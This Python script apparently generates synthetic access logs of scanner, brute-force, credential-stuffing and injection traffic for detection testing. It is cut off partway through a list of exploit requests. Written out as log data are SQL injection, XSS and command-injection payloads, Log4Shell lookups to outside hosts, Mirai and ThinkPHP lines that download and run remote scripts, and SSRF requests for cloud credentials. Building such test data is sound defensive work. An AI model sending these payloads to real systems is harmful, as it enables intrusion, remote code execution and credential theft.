import random, urllib.parse as up
from gen import *

NUCLEI_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
NUCLEI_PATHS = """/.env /.git/config /wp-config.php.bak /server-status /actuator/env /actuator/health /api/v1/pods /.DS_Store /phpinfo.php /info.php
/admin/ /login.action /struts/webconsole.html /jenkins/login /solr/admin/info/system /jolokia/list /druid/index.html /nacos/v1/auth/users?pageNo=1&pageSize=9
/console/login/LoginForm.jsp /manager/html /host-manager/html /pma/ /phpmyadmin/ /adminer.php /graphql /api/swagger.json /v2/api-docs /swagger-ui.html
/remote/login /dana-na/auth/url_default/welcome.cgi /global-protect/login.esp /vpn/index.html /owa/auth/logon.aspx /ecp/ /autodiscover/autodiscover.xml
/wp-json/wp/v2/users /?author=1 /xmlrpc.php /wp-content/debug.log /wp-includes/wlwmanifest.xml /readme.html /license.txt /CHANGELOG.md /composer.json /package.json
/config.json /config.yml /docker-compose.yml /.travis.yml /.gitlab-ci.yml /.circleci/config.yml /web.config /crossdomain.xml /clientaccesspolicy.xml /sitemap.xml
/.well-known/security.txt /api/jsonws/invoke /_ignition/health-check /telescope/requests /horizon/api/stats /storage/logs/laravel.log /elmah.axd /trace.axd
/grafana/login /login?next=%2F /kibana/app/kibana /app/kibana /_cat/indices /_cluster/health /zabbix/index.php /nagios/ /cacti/ /webmin/ /+CSCOE+/logon.html
/cgi-bin/test-cgi /cgi-bin/printenv /error_log /debug/pprof/ /metrics /prometheus /env /heapdump /actuator/heapdump /h2-console/ /api/actuator /gateway/actuator/routes
/ws_ftp.ini /sftp-config.json /.vscode/sftp.json /backup.sql /dump.sql /db.sql /database.sql /backup.zip /www.zip /site.tar.gz /.htpasswd /.svn/entries /.hg/hgrc
/user/login /install.php /setup.php /installer.php /wizard/ /config/database.yml /app/etc/local.xml /application.properties /settings.py /.npmrc /.dockercfg""".split()

FFUF_WORDS = """admin administrator backup backups bak beta bin blog cache cgi-bin config console core cp css dashboard data db debug demo dev download downloads
files forum ftp home html images img inc include includes install js lib library log login logs mail manage manager media member members new old panel php
private public register reports scripts search secret secure server shop site sql src stats status storage system temp template test tests tmp tools upload
uploads user users vendor web webmail wp www xml api app apps assets auth account accounts archive archives cms content error export help hidden import info
internal legacy main mobile monitor portal prod sandbox service services setup shell staging static support sys uat v1 v2 web-inf webadmin webdav""".split()

PLUGINS = """akismet contact-form-7 wordpress-seo jetpack woocommerce elementor wpforms-lite classic-editor really-simple-ssl wordfence all-in-one-seo-pack
duplicate-page litespeed-cache updraftplus google-site-kit wp-mail-smtp all-in-one-wp-migration header-footer-elementor essential-addons-for-elementor-lite
wp-super-cache w3-total-cache redirection tinymce-advanced mailchimp-for-wp ninja-forms loco-translate wp-optimize cookie-notice regenerate-thumbnails
advanced-custom-fields duplicator wp-file-manager insert-headers-and-footers better-wp-security sucuri-scanner wp-fastest-cache autoptimize shortcodes-ultimate
siteorigin-panels wpcf7-recaptcha ewww-image-optimizer smush limit-login-attempts-reloaded polylang yoast-seo tablepress query-monitor wp-statistics""".split()
INSTALLED = {"akismet", "contact-form-7", "wordpress-seo", "jetpack", "woocommerce"}

def nuclei(L, ip, start, rate, ua, n=None):
    t = start; paths = NUCLEI_PATHS * 3
    paths = paths[:n] if n else paths
    for p in paths:
        st = 404
        if p in ("/xmlrpc.php",): st = 405
        if p in ("/sitemap.xml", "/readme.html", "/license.txt", "/?author=1", "/wp-includes/wlwmanifest.xml"): st = 200
        if p.startswith("/wp-json"): st = 200
        L.add(t, ip, "GET", p, st, ua=ua); t += random.expovariate(rate)
    return len(paths)

def s_nuclei_default(L):
    n = nuclei(L, "45.148.10.61", 300, 150, NUCLEI_UA)
    return dict(ips=["45.148.10.61"], kind="scanner", desc="nuclei default -rl 150, Chrome UA (nuclei's default UA is a browser string), %d template paths" % n)

def s_nuclei_slow(L):
    n = nuclei(L, "45.148.10.62", 300, 5, random.choice(BROWSERS))
    return dict(ips=["45.148.10.62"], kind="scanner", desc="nuclei -rl 5 with a random browser UA, %d template paths" % n)

def s_nuclei_rl1(L):
    n = nuclei(L, "45.148.10.63", 60, 0.8, random.choice(BROWSERS), n=300)
    return dict(ips=["45.148.10.63"], kind="scanner", desc="nuclei -rl 1 (~0.8/s) browser UA")

def fuzz(L, ip, start, rate, ua, words, exts=("",), delay=None, status=lambda p: 404):
    t = start; n = 0
    for w in words:
        for e in exts:
            p = "/" + w + e
            L.add(t, ip, "GET", p, status(p), ua=ua, size=153 if status(p) == 404 else None); n += 1
            t += random.uniform(*delay) if delay else random.expovariate(rate)
    return n

def s_ffuf(L):
    n = fuzz(L, "185.220.101.33", 200, 120, "Fuzz Faster U Fool v2.1.0-dev", FFUF_WORDS, exts=("", ".php", ".bak", ".old"))
    return dict(ips=["185.220.101.33"], kind="scanner", desc="ffuf -t 40 -e .php,.bak,.old default UA ~120/s (%d req)" % n)

def s_ffuf_delay_browser(L):
    n = fuzz(L, "185.220.101.34", 100, 0, random.choice(BROWSERS), FFUF_WORDS, exts=("", ".php"), delay=(0.5, 2.0))
    return dict(ips=["185.220.101.34"], kind="scanner", desc="ffuf -p 0.5-2.0 -H 'User-Agent: <Chrome>' -e .php (%d req)" % n)

def s_gobuster(L):
    n = fuzz(L, "91.92.243.10", 200, 60, "gobuster/3.6", FFUF_WORDS)
    return dict(ips=["91.92.243.10"], kind="scanner", desc="gobuster dir -t 10 default UA ~60/s (%d req)" % n)

def s_gobuster_301(L):
    # site answers 301 to dir without slash and 403 to some
    st = lambda p: random.choice([404, 404, 404, 301, 403])
    n = fuzz(L, "91.92.243.11", 200, 60, "gobuster/3.6", FFUF_WORDS, status=st)
    return dict(ips=["91.92.243.11"], kind="scanner", desc="gobuster ~60/s; site answers 301/403 to 40%% (%d req)" % n)

def s_ferox(L):
    ip = "91.92.243.12"; t = 200; n = 0
    for base in ["", "/wp-content", "/wp-includes", "/product"]:
        for w in FFUF_WORDS:
            st = 404
            L.add(t, ip, "GET", base + "/" + w, st, ua="feroxbuster/2.10.4"); t += random.expovariate(50); n += 1
    return dict(ips=[ip], kind="scanner", desc="feroxbuster recursion into 3 found dirs, default UA ~50/s (%d req)" % n)

def s_dirsearch_random(L):
    ip = "91.92.243.13"; t = 200; n = 0
    for w in FFUF_WORDS:
        for e in ["", ".php", ".bak", ".old", ".zip", ".txt"][:3]:
            L.add(t, ip, "GET", "/" + w + e, 404, ua=random.choice(BROWSERS)); n += 1
            t += random.uniform(0.9, 1.1)
    return dict(ips=[ip], kind="scanner", desc="dirsearch --random-agent --delay 1 -e php,bak (%d req)" % n)

def s_dirsearch_random_fast(L):
    ip = "91.92.243.14"; t = 200; n = 0
    for w in FFUF_WORDS:
        for e in ["", ".php", ".bak"]:
            L.add(t, ip, "GET", "/" + w + e, 404, ua=random.choice(BROWSERS)); n += 1
            t += random.expovariate(25)
    return dict(ips=[ip], kind="scanner", desc="dirsearch --random-agent -t 25, no delay (%d req)" % n)

WPS_UA = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
def s_wpscan_plugins(L, ua=WPS_UA, ip="103.151.125.9", rate=30):
    t = 100; n = 0
    for pl in ["/", "/robots.txt", "/readme.html", "/wp-cron.php", "/xmlrpc.php", "/wp-content/uploads/", "/wp-includes/js/wp-emoji-release.min.js"]:
        L.add(t, ip, "GET", pl, 200, ua=ua); t += 0.1; n += 1
    for p in PLUGINS * 1:
        st = 200 if p in INSTALLED else 404
        L.add(t, ip, "GET", "/wp-content/plugins/%s/readme.txt" % p, st, ua=ua); t += random.expovariate(rate); n += 1
        if p in INSTALLED:
            L.add(t, ip, "GET", "/wp-content/plugins/%s/changelog.txt" % p, 404, ua=ua); t += 0.05; n += 1
    return dict(ips=[ip], kind="scanner", desc="wpscan --enumerate ap (aggressive plugin readme.txt), %s, ~%d/s (%d req)" % (ua[:20], rate, n))

def s_wpscan_plugins_random(L):
    return s_wpscan_plugins(L, ua=random.choice(BROWSERS), ip="103.151.125.10", rate=5)

def s_wpscan_users(L):
    ip = "103.151.125.11"; t = 100; n = 0
    L.add(t, ip, "GET", "/", 200, ua=WPS_UA); t += 0.5
    L.add(t, ip, "GET", "/wp-json/wp/v2/users", 200, ua=WPS_UA); t += 0.3
    L.add(t, ip, "GET", "/wp-json/wp/v2/users/?per_page=100&page=1", 200, ua=WPS_UA); t += 0.3
    L.add(t, ip, "GET", "/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fshop.example%2F", 200, ua=WPS_UA); t += 0.3
    for i in range(1, 11):
        L.add(t, ip, "GET", "/?author=%d" % i, 301 if i <= 3 else 404, ua=WPS_UA); t += 0.2
    L.add(t, ip, "GET", "/author-sitemap.xml", 200, ua=WPS_UA); t += 0.2
    L.add(t, ip, "GET", "/feed/", 200, ua=WPS_UA); t += 0.2
    n = 17
    return dict(ips=[ip], kind="scanner", desc="wpscan --enumerate u1-10 (wp-json users, ?author=N, 17 req)")

def s_wpscan_xmlrpc(L):
    ip = "103.151.125.12"; t = 100
    L.add(t, ip, "GET", "/", 200, ua=WPS_UA); t += 0.5
    L.add(t, ip, "POST", "/xmlrpc.php", 200, ua=WPS_UA); t += 1
    for i in range(60):
        L.add(t, ip, "POST", "/xmlrpc.php", 200, size=random.randint(20000, 80000), ua=WPS_UA); t += random.uniform(1.5, 4)
    return dict(ips=[ip], kind="bf", desc="wpscan --password-attack xml-rpc-multicall (60 POSTs answered 200, every 1.5-4 s, each = 500 guesses)")

def s_wpscan_wplogin(L):
    ip = "103.151.125.13"; t = 100
    for i in range(200):
        L.add(t, ip, "POST", "/wp-login.php", 200, ua=WPS_UA); t += random.expovariate(8)
    return dict(ips=[ip], kind="bf", desc="wpscan --password-attack wp-login -t 5 (~8/s, 200 answered 200)")

HYDRA_UA = "Mozilla/5.0 (Hydra)"
def s_hydra_form(L):
    ip = "193.35.18.77"; t = 100
    for i in range(400):
        L.add(t, ip, "POST", "/my-account/", 200, ua=HYDRA_UA); t += random.expovariate(6)
    return dict(ips=[ip], kind="bf", desc="hydra http-post-form -t 4 on /my-account/ (failed = 200 page), ~6/s, 400 guesses")

def s_hydra_form_ua(L):
    ip = "193.35.18.78"; t = 100; ua = BROWSERS[0]
    for i in range(400):
        L.add(t, ip, "POST", "/my-account/", 200, ua=ua); t += random.expovariate(6)
    return dict(ips=[ip], kind="bf", desc="hydra http-post-form -t 4 H=User-Agent: Chrome, POST /my-account/ 200, ~6/s")

def s_hydra_slow(L):
    ip = "193.35.18.79"; t = 30
    while t < DUR - 5:
        L.add(t, ip, "POST", "/my-account/", 200, ua=BROWSERS[0]); t += 3 + random.uniform(0, 0.3)
    return dict(ips=[ip], kind="bf", desc="hydra -t 1 -W 3 Chrome UA, POST /my-account/ 200, one every 3 s for 20 min")

def s_hydra_get_basic(L):
    ip = "193.35.18.80"; t = 100
    for i in range(300):
        L.add(t, ip, "GET", "/wp-admin/", 401, ua=HYDRA_UA); t += random.expovariate(5)
    return dict(ips=[ip], kind="bf", desc="hydra http-get /wp-admin/ basic auth -t 4 401 ~5/s")

def s_hydra_tomcat(L):
    ip = "193.35.18.81"; t = 100
    for i in range(300):
        L.add(t, ip, "GET", "/manager/html", 401, ua="Mozilla/4.0 (Hydra)"); t += random.expovariate(10)
    return dict(ips=[ip], kind="bf", desc="hydra http-get /manager/html 401 ~10/s (Tomcat manager)")

def s_medusa(L):
    ip = "193.35.18.82"; t = 100
    for i in range(200):
        L.add(t, ip, "GET", "/admin/", 401, ua="Teh Forest Lobster kicks ass"); t += random.expovariate(3)
    return dict(ips=[ip], kind="bf", desc="medusa -M http /admin/ 401 ~3/s")

def s_patator_json(L):
    ip = "193.35.18.83"; t = 100
    for i in range(300):
        L.add(t, ip, "POST", "/api/v1/sessions", 422, ua="Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"); t += random.expovariate(4)
    return dict(ips=[ip], kind="bf", desc="patator http_fuzz POST /api/v1/sessions answered 422 ~4/s")

def s_token_400(L):
    ip = "193.35.18.84"; t = 100
    for i in range(300):
        L.add(t, ip, "POST", "/oauth/token", 400, ua="python-requests/2.31.0"); t += random.expovariate(2)
    return dict(ips=[ip], kind="bf", desc="script POST /oauth/token (grant_type=password) answered 400 invalid_grant ~2/s")

def s_token_200_error(L):
    ip = "193.35.18.85"; t = 100
    for i in range(300):
        L.add(t, ip, "POST", "/api/v1/sessions", 200, size=58, ua="axios/1.7.7"); t += random.expovariate(3)
    return dict(ips=[ip], kind="bf", desc="script POST /api/v1/sessions answered 200 {error} (GraphQL-style) ~3/s, nothing else")

def s_graphql_login(L):
    ip = "193.35.18.86"; t = 100
    for i in range(300):
        L.add(t, ip, "POST", "/graphql", 200, size=91, ua="python-requests/2.31.0"); t += random.expovariate(5)
    return dict(ips=[ip], kind="bf", desc="GraphQL login mutation brute force POST /graphql 200 ~5/s (nothing else; ambiguous in the log)")

def s_stuffing_resi(L):
    ips = []; t = 60
    ua = BROWSERS[0]
    while t < DUR - 10:
        ip = "%d.%d.%d.%d" % (random.choice([24, 47, 50, 66, 67, 68, 69, 70, 71, 72, 73, 75, 76, 96, 97, 98, 99, 104, 107, 108, 172, 173, 174]), random.randint(0, 255), random.randint(0, 255), random.randint(1, 254))
        ips.append(ip)
        tt = t
        for _ in range(random.randint(1, 3)):
            L.add(tt, ip, "GET", "/my-account/", 200, ua=ua)
            L.add(tt + random.uniform(0.5, 1.5), ip, "POST", "/my-account/", 200, ref=SITE + "/my-account/", ua=ua)
            tt += random.uniform(2, 8)
        t += random.expovariate(1.0)
    return dict(ips=ips, kind="stuff", desc="credential stuffing via residential proxies: %d addresses over many /16s, 1-3 (GET form + POST 200) each, ~1 guess/s total, one Chrome UA" % len(ips))

def s_stuffing_api(L):
    ips = []; t = 60
    while t < DUR - 10:
        ip = "%d.%d.%d.%d" % (random.choice([24, 47, 50, 66, 67, 68, 69, 70, 71, 72, 73]), random.randint(0, 255), random.randint(0, 255), random.randint(1, 254))
        ips.append(ip)
        for k in range(random.randint(1, 3)):
            L.add(t + k * random.uniform(1, 3), ip, "POST", "/api/v1/sessions", 401, ua="okhttp/4.12.0")
        t += random.expovariate(2.0)
    return dict(ips=ips, kind="stuff", desc="credential stuffing on /api/v1/sessions 401 via residential proxies: %d addresses, 1-3 each, ~2/s total, app UA" % len(ips))

SQLMAP_UA = "sqlmap/1.8.11#stable (https://sqlmap.org)"
def sqli_payloads(tamper=None):
    base = ["1", "1)", "1'", "1\"", "1 AND 4412=4412", "1 AND 4412=7921", "1' AND 4412=4412 AND 'dVbG'='dVbG", "1' AND 4412=7921 AND 'dVbG'='dVbG",
            "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x717a6b7671,(SELECT (ELT(5712=5712,1))),0x7178767a71,0x78))s), 8446744073709551610, 8446744073709551610)))",
            "1 AND EXTRACTVALUE(5317,CONCAT(0x5c,0x717a6b7671,(SELECT (ELT(5317=5317,1))),0x7178767a71))",
            "1;SELECT PG_SLEEP(5)--", "1 AND (SELECT 6221 FROM (SELECT(SLEEP(5)))zPfS)", "1' AND (SELECT 6221 FROM (SELECT(SLEEP(5)))zPfS) AND 'x'='x",
            "1 ORDER BY 1-- -", "1 UNION ALL SELECT NULL-- -", "1 UNION ALL SELECT NULL,NULL-- -", "1 UNION ALL SELECT NULL,NULL,NULL-- -",
            "1 UNION ALL SELECT CONCAT(0x717a6b7671,0x4b6a6d,0x7178767a71),NULL,NULL-- -", "1) AND 3185=3185 AND (9263=9263", "1 RLIKE (SELECT (CASE WHEN (4581=4581) THEN 1 ELSE 0x28 END))"]
    out = []
    for p in base:
        if tamper == "space2comment": p = p.replace(" ", "/**/")
        if tamper == "between": p = p.replace("4412=4412", "4412 BETWEEN 4412 AND 4412").replace("4412=7921", "4412 NOT BETWEEN 0 AND 7921").replace(">", " NOT BETWEEN 0 AND ")
        if tamper == "charencode":
            out.append("".join("%%%02X" % ord(c) for c in p)); continue
        out.append(up.quote(p, safe=""))
    return out

def sqlmap(L, ip, ua_fn, delay, tamper=None, param="/product/?id=%s"):
    t = 100; n = 0
    L.add(t, ip, "GET", param % "1", 200, ua=ua_fn()); t += delay; n += 1
    for rep in range(3):  # level 3: several parameters / boundaries
        for p in sqli_payloads(tamper):
            L.add(t, ip, "GET", param % p, random.choice([200, 200, 500, 404]), ua=ua_fn()); t += delay * random.uniform(0.9, 1.1) if delay else random.expovariate(20); n += 1
    return n

def s_sqlmap_default(L):
    n = sqlmap(L, "5.188.62.20", lambda: SQLMAP_UA, 0)
    return dict(ips=["5.188.62.20"], kind="inject", desc="sqlmap --level 3 default UA (%d req)" % n)

def s_sqlmap_random_delay(L):
    ua = random.choice(BROWSERS)
    n = sqlmap(L, "5.188.62.21", lambda: ua, 1.0)
    return dict(ips=["5.188.62.21"], kind="inject", desc="sqlmap --random-agent --delay 1 (%d req)" % n)

def s_sqlmap_space2comment(L):
    ua = random.choice(BROWSERS)
    n = sqlmap(L, "5.188.62.22", lambda: ua, 1.0, tamper="space2comment")
    return dict(ips=["5.188.62.22"], kind="inject", desc="sqlmap --random-agent --delay 1 --tamper space2comment (%d req)" % n)

def s_sqlmap_between(L):
    ua = random.choice(BROWSERS)
    n = sqlmap(L, "5.188.62.23", lambda: ua, 1.0, tamper="between")
    return dict(ips=["5.188.62.23"], kind="inject", desc="sqlmap --random-agent --delay 1 --tamper between (%d req)" % n)

def s_sqlmap_charencode(L):
    ua = random.choice(BROWSERS)
    n = sqlmap(L, "5.188.62.24", lambda: ua, 1.0, tamper="charencode")
    return dict(ips=["5.188.62.24"], kind="inject", desc="sqlmap --random-agent --delay 1 --tamper charencode (%d req)" % n)

def s_sqlmap_search(L):
    ua = random.choice(BROWSERS)
    n = sqlmap(L, "5.188.62.25", lambda: ua, 1.0, param="/?s=%s&post_type=product")
    return dict(ips=["5.188.62.25"], kind="inject", desc="sqlmap --random-agent --delay 1 on the search param ?s= (%d req)" % n)

def s_xsstrike(L):
    ip = "5.188.62.30"; t = 100; ua = random.choice(BROWSERS)
    pays = ["v3dm0s", "<d3v/onmouseleave=[2].some(confirm)>", "<A%0aonpointerenter%0d=%0dconfirm()%0dx>v3dm0s", "<html%0dONmouseover%0a=%0a(prompt)``%0dx//",
            "<d3v%0dOnpOinTeReNTer%0a=%0a[8].find(confirm)%0dx>v3dm0s", "<details%09open%09ontoggle%0a=%0aconfirm()%0dx>", "\"><svg%0Aonload%0D=%0Dconfirm()%0Dx>",
            "'--><d3v%09onmouseover%09=%09(confirm)()>", "<a%09href%09=%09javascript&colon;confirm()>click", "<iframe/src=jaVAscRipt:alert`1`>"]
    for p in pays * 2:
        L.add(t, ip, "GET", "/?s=" + p.replace(" ", "%20").replace("<", "%3C").replace(">", "%3E").replace('"', "%22"), 200, ua=ua); t += random.uniform(0.5, 2)
    return dict(ips=[ip], kind="inject", desc="XSStrike (browser UA, %0a/%0d-separated handlers, confirm()) on ?s=")

def s_commix(L):
    ip = "5.188.62.31"; t = 100; ua = "commix/v4.0-stable (https://commixproject.com)"
    pays = [";echo QKLLMW$((37+45))$(echo QKLLMW)QKLLMW", "%3Becho%20QKLLMW%24%28%2837%2B45%29%29%24%28echo%20QKLLMW%29QKLLMW",
            "|echo QKLLMW$((37+45))$(echo QKLLMW)QKLLMW", "%26echo%20QKLLMW%24%28%2837%2B45%29%29", "%0Aecho%20QKLLMW%24%28%2837%2B45%29%29",
            "%3Bstr%3D%24%28echo%20QKLLMW%29%3Bstr1%3D%24%7B%23str%7D%3Bif%20%5B%206%20-ne%20%24%7Bstr1%7D%20%5D%3Bthen%20sleep%200%3Belse%20sleep%201%3Bfi",
            "%3Bsleep%205", "%24%28echo%20QKLLMW%29"]
    for p in pays * 3:
        L.add(t, ip, "GET", "/ping.php?addr=127.0.0.1" + p.replace(" ", "%20"), 200, ua=ua); t += random.uniform(0.2, 1)
    return dict(ips=[ip], kind="inject", desc="commix default UA on ?addr=")

def s_commix_random(L):
    ip = "5.188.62.32"; t = 100; ua = random.choice(BROWSERS)
    pays = ["%3Becho%20QKLLMW%24%28%2837%2B45%29%29%24%28echo%20QKLLMW%29QKLLMW", "%7Cecho%20QKLLMW%24%28%2837%2B45%29%29", "%0Aecho%20QKLLMW%24%28%2837%2B45%29%29",
            "%3Bsleep%205", "%24%28echo%20QKLLMW%29", "%60echo%20QKLLMW%60"]
    for p in pays * 3:
        L.add(t, ip, "GET", "/?s=test" + p, 200, ua=ua); t += random.uniform(1, 2)
    return dict(ips=[ip], kind="inject", desc="commix --random-agent --delay 1 on ?s=")

ONESHOTS = [
 ("log4shell-ua", "GET", "/", 200, "${jndi:ldap://45.83.193.150:1389/Exploit}", "-"),
 ("log4shell-ua-obf", "GET", "/", 200, "${${lower:j}${lower:n}${lower:d}i:${lower:l}${lower:d}a${lower:p}://c6r2k1.interact.sh/a}", "-"),
 ("log4shell-ua-obf2", "GET", "/", 200, "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://45.83.193.150:1099/o}", "-"),
 ("log4shell-referer", "GET", "/", 200, BROWSERS[0], "${jndi:dns://45.83.193.150/x}"),
 ("log4shell-path", "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F45.83.193.150%3A1389%2FBasic%2FCommand%2FBase64%2FZWNobyAx%7D", 200, "curl/7.68.0", "-"),
 ("log4shell-env", "GET", "/", 200, "${jndi:ldap://${env:USER}.c6r2k1.interact.sh/a}", "-"),
 ("log4shell-date-obf", "GET", "/", 200, "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://mydomain/a}", "-"),
 ("spring4shell", "POST", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", 200, "Mozilla/5.0", "-"),
 ("spring4shell-get", "GET", "/tomcatwar.jsp?pwd=j&cmd=id", 404, "python-requests/2.27.1", "-"),
 ("spring-cloud-function", "POST", "/functionRouter", 404, "Mozilla/5.0", "-"),
 ("struts-ognl-path", "GET", "/index.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23f%3D%23_memberAccess.getClass%28%29.getDeclaredField%28%27allowStaticMethodAccess%27%29%7D", 404, "Mozilla/5.0", "-"),
 ("struts-s2-045-path", "GET", "/struts2-showcase/%24%7B%28%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%29.%28%23cmd%3D%27id%27%29%7D/actionChain1.action", 404, "Mozilla/5.0", "-"),
 ("struts-s2-057", "GET", "/%24%7B%28111%2B111%29%7D/actionChain1.action", 404, "Mozilla/5.0", "-"),
 ("thinkphp-rce", "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "-"),
 ("thinkphp-rce2", "GET", "/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t;sh%20/tmp/t", 404, "Mozilla/5.0", "-"),
 ("thinkphp-captcha", "POST", "/index.php?s=captcha", 404, "Mozilla/5.0", "-"),
 ("confluence-ognl", "GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/", 404, "Mozilla/5.0", "-"),
 ("confluence-2023-22527", "POST", "/template/aui/text-inline.vm", 404, "Mozilla/5.0", "-"),
 ("citrix-2019-19781", "GET", "/vpn/../vpns/cfg/smb.conf", 400, "curl/7.67.0", "-"),
 ("citrix-newbm", "POST", "/vpns/portal/scripts/newbm.pl", 404, "python-requests/2.22.0", "-"),
 ("fortinet-2018-13379", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, "Mozilla/5.0", "-"),
 ("fortinet-2022-40684", "GET", "/api/v2/cmdb/system/admin/admin", 404, "Report Runner", "-"),
 ("ivanti-2023-46805", "GET", "/api/v1/totp/user-backup-code/../../system/system-information", 404, "Mozilla/5.0", "-"),
 ("ivanti-2024-21887", "GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20%2Dc%20%27import%20socket%27%3B", 404, "Mozilla/5.0", "-"),
 ("ivanti-epmm", "GET", "/mifs/aad/api/v2/admins/users", 404, "Mozilla/5.0", "-"),
 ("panos-2024-3400", "POST", "/ssl-vpn/hipreport.esp", 404, "Mozilla/5.0", "-"),
 ("checkpoint-2024-24919", "POST", "/clients/MyCRL", 404, "Mozilla/5.0", "-"),
 ("exchange-proxyshell", "GET", "/autodiscover/autodiscover.json?@zdi/Powershell?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@zdi", 404, "Mozilla/5.0 zgrab/0.x", "-"),
 ("exchange-proxylogon", "GET", "/owa/auth/x.js", 404, "ExchangeServicesClient/0.0.0.0", "-"),
 ("moveit", "POST", "/moveitisapi/moveitisapi.dll?action=m2", 404, "Mozilla/5.0", "-"),
 ("apache-41773", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/7.79.1", "-"),
 ("apache-41773-post", "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "Mozilla/5.0", "-"),
 ("apache-42013", "GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", 400, "Mozilla/5.0", "-"),
 ("phpunit-rce", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0", "-"),
 ("phpunit-rce-get", "GET", "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0", "-"),
 ("pearcmd-lfi", "GET", "/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(\"hi\"));?>+/tmp/index1.php", 404, "Mozilla/5.0", "-"),
 ("laravel-ignition", "POST", "/_ignition/execute-solution", 404, "Mozilla/5.0", "-"),
 ("wp-file-manager", "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 404, "python-requests/2.25.1", "-"),
 ("php-cgi-2024-4577", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", 404, "Mozilla/5.0", "-"),
 ("php-cgi-2012", "POST", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 200, "Mozilla/5.0", "-"),
 ("xdebug", "GET", "/?XDEBUG_SESSION_START=phpstorm", 200, "Mozilla/5.0", "-"),
 ("liferay-jsonws", "POST", "/api/jsonws/invoke", 404, "Mozilla/5.0", "-"),
 ("solr-velocity", "GET", "/solr/admin/cores?wt=json&indexInfo=false", 404, "Mozilla/5.0", "-"),
 ("vmware-vcenter", "POST", "/ui/vropspluginui/rest/services/uploadova", 404, "Mozilla/5.0", "-"),
 ("f5-bigip", "POST", "/mgmt/tm/util/bash", 404, "Mozilla/5.0", "-"),
 ("f5-bigip-2020", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404, "Mozilla/5.0", "-"),
 ("gitlab-exif", "POST", "/uploads/user", 404, "python-requests/2.25.1", "-"),
 ("jenkins-script", "POST", "/script", 404, "Mozilla/5.0", "-"),
 ("weblogic", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", 404, "Mozilla/5.0", "-"),
 ("ssrf-aws", "GET", "/wp-content/plugins/x/proxy.php?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", 404, "Mozilla/5.0", "-"),
 ("ssrf-aws-dec", "GET", "/fetch?url=http://2852039166/latest/meta-data/", 404, "Mozilla/5.0", "-"),
 ("ssrf-aws-v6", "GET", "/?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/", 200, "Mozilla/5.0", "-"),
 ("ssrf-gcp", "GET", "/image?url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", 404, "Mozilla/5.0", "-"),
 ("ssrf-enc", "GET", "/?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", 200, "Mozilla/5.0", "-"),
 ("ssrf-localhost", "GET", "/proxy?url=http://127.0.0.1:6379/", 404, "Mozilla/5.0", "-"),
 ("ssrf-file", "GET", "/?url=file:///etc/passwd", 200, "Mozilla/5.0", "-"),
 ("ssrf-nip", "GET", "/fetch?dest=http://169.254.169.254.nip.io/latest/meta-data/", 404, "Mozilla/5.0", "-"),
 ("mirai-shell", "GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.236/jaws;sh+/tmp/jaws", 404, "Hello, world", "-"),
 ("mirai-luci", "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://45.95.147.236/t+-O-|sh`)", 404, "Go-http-client/1.1", "-"),
 ("mirai-boaform", "POST", "/boaform/admin/formLogin", 404, "Mozilla/5.0", "-"),
